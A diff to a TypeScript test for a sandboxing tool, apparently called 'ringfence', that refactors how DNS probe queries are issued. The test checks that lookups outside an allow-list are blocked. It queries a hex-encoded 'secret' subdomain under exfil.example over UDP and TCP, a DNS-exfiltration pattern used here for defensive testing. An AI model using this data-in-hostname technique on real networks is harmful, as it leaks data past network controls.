@@ -13,12 +13,8 @@ import {
   ringfence,
   runInDir,
 } from "./helpers/kernel.ts";
-import {
-  DNS_SERVER,
-  firstLine,
-  PROBE,
-  TestNetns,
-} from "./helpers/net_harness.ts";
+import { DNS_SERVER, firstLine, TestNetns } from "./helpers/net_harness.ts";
+import { digCommand } from "./helpers/net_dns.ts";
 
 kernelTest(
   "ringfence run: DNS queries for names outside the allow-list never leave",
@@ -50,17 +46,8 @@ kernelTest(
       const secret = `${"73".repeat(31)}7.${"65".repeat(31)}6.${
         "63".repeat(31)
       }7.a.exfil.example`;
-      const dig = (name: string, qtype: string, transport: string) =>
-        netns.exec([
-          "python3",
-          PROBE,
-          "dig",
-          "127.0.0.53",
-          "53",
-          name,
-          qtype,
-          transport,
-        ]).join(" ");
+      const dig = (name: string, qtype: string, transport: "udp" | "tcp") =>
+        netns.exec(digCommand(name, qtype, transport)).join(" ");
       const script = [
         dig(secret, "16", "udp"),
         dig(secret, "1", "tcp"),
